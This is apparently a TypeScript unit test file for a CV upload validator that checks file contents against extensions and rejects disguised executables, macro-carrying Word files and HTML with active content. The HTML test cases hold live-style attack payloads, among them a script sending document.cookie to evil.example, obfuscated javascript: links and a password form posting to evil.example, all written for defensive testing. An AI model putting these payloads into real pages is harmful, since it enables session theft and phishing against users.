import { docFile, docxFile, executableFile, HTML_CV, pdfOfSize, pngFile, TEXT_CV, zipFile } from "../../test-support/documents"
import { checkFileContent } from "./file-content"

describe("checkFileContent", () => {
  it("accepts each type whose content matches its extension", async () => {
    await expect(checkFileContent(pdfOfSize(2000), "pdf")).resolves.toEqual({ ok: true, contentType: "application/pdf" })
    await expect(checkFileContent(docFile(), "doc")).resolves.toEqual({ ok: true, contentType: "application/msword" })
    await expect(checkFileContent(docxFile(), "docx")).resolves.toMatchObject({ ok: true })
    await expect(checkFileContent(docxFile({ contentTypeFirst: true }), "docx")).resolves.toMatchObject({ ok: true })
    await expect(checkFileContent(TEXT_CV, "txt")).resolves.toEqual({ ok: true, contentType: "text/plain" })
    await expect(checkFileContent(HTML_CV, "html")).resolves.toEqual({ ok: true, contentType: "text/html" })
    await expect(checkFileContent(Buffer.from('<?xml version="1.0"?><html/>'), "html")).resolves.toMatchObject({ ok: true })
  })

  it("refuses a renamed executable whatever its extension", async () => {
    for (const extension of ["pdf", "doc", "docx", "txt", "html"] as const) {
      await expect(checkFileContent(executableFile(), extension)).resolves.toEqual({ ok: false, detected: "exe", message: "FILE_CONTENT" })
    }
  })

  it("refuses a document of another type than its extension says", async () => {
    await expect(checkFileContent(docxFile(), "pdf")).resolves.toMatchObject({ ok: false, detected: "docx" })
    await expect(checkFileContent(pdfOfSize(2000), "docx")).resolves.toMatchObject({ ok: false, detected: "pdf" })
    await expect(checkFileContent(zipFile(), "docx")).resolves.toMatchObject({ ok: false, detected: "zip" })
    await expect(checkFileContent(pngFile(), "txt")).resolves.toMatchObject({ ok: false, detected: "png" })
    await expect(checkFileContent(TEXT_CV, "pdf")).resolves.toMatchObject({ ok: false, detected: null })
  })

  it("refuses binary content posing as text", async () => {
    await expect(checkFileContent(Buffer.from([0x48, 0x00, 0x01, 0x02, 0x00]), "txt")).resolves.toMatchObject({
      ok: false,
      detected: "binary",
    })
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("CV", "utf16le")])
    await expect(checkFileContent(utf16, "txt")).resolves.toMatchObject({ ok: true })
  })
})

describe("the whole file, not its first bytes (issue 19, point 12)", () => {
  it("refuses a PDF header followed by an executable", async () => {
    const disguised = Buffer.concat([
      Buffer.from("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n", "latin1"),
      executableFile(),
      Buffer.from("\n%%EOF\n"),
    ])
    await expect(checkFileContent(disguised, "pdf")).resolves.toEqual({ ok: false, detected: "pdf-structure", message: "FILE_CONTENT" })
    const headerOnly = Buffer.concat([Buffer.from("%PDF-1.4\n", "latin1"), executableFile()])
    await expect(checkFileContent(headerOnly, "pdf")).resolves.toMatchObject({ ok: false, message: "FILE_CONTENT" })
  })

  it("refuses a real PDF with a program appended after its end", async () => {
    await expect(checkFileContent(Buffer.concat([pdfOfSize(2000), executableFile()]), "pdf")).resolves.toMatchObject({ ok: false })
  })

  it("refuses a Word package that is cut short, has a program glued to it, lacks its document or carries macros", async () => {
    const docx = docxFile()
    await expect(checkFileContent(docx.subarray(0, docx.length - 30), "docx")).resolves.toMatchObject({ ok: false })
    await expect(checkFileContent(Buffer.concat([executableFile(), docx]), "docx")).resolves.toMatchObject({ ok: false })
    await expect(checkFileContent(Buffer.concat([docx, executableFile()]), "docx")).resolves.toMatchObject({ ok: false })
    await expect(checkFileContent(docxFile({ withoutDocument: true }), "docx")).resolves.toMatchObject({ ok: false })
    await expect(checkFileContent(docxFile({ withMacros: true }), "docx")).resolves.toMatchObject({ ok: false })
  })

  it.each([
    '<html><body><p>CV</p><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>',
    "<HTML><BODY><SCRIPT\nsrc=//evil.example/x.js></SCRIPT></BODY></HTML>",
    '<p><img src=x onerror="alert(1)">CV</p>',
    '<a href=" java\tscript:alert(1)">my portfolio</a>',
    '<a href="&#106;avascript:alert(1)">my portfolio</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    "<svg><script>alert(1)</script></svg>",
    '<object data="evil.swf"></object>',
  ])("refuses an HTML CV with active content: %s", async (html) => {
    await expect(checkFileContent(Buffer.from(html, "utf8"), "html")).resolves.toEqual({
      ok: false,
      detected: "active-html",
      message: "FILE_ACTIVE_CONTENT",
    })
  })

  it("takes an HTML CV with styles, images and ordinary links", async () => {
    const html =
      '<!doctype html><html><head><style>p { color: #333 }</style></head><body><h1>Jana</h1><img src="photo.jpg" alt=""><a href="https://www.linkedin.com/in/jana">LinkedIn</a><a href="mailto:jana@example.cz">mail</a></body></html>'
    await expect(checkFileContent(Buffer.from(html, "utf8"), "html")).resolves.toEqual({ ok: true, contentType: "text/html" })
  })
})
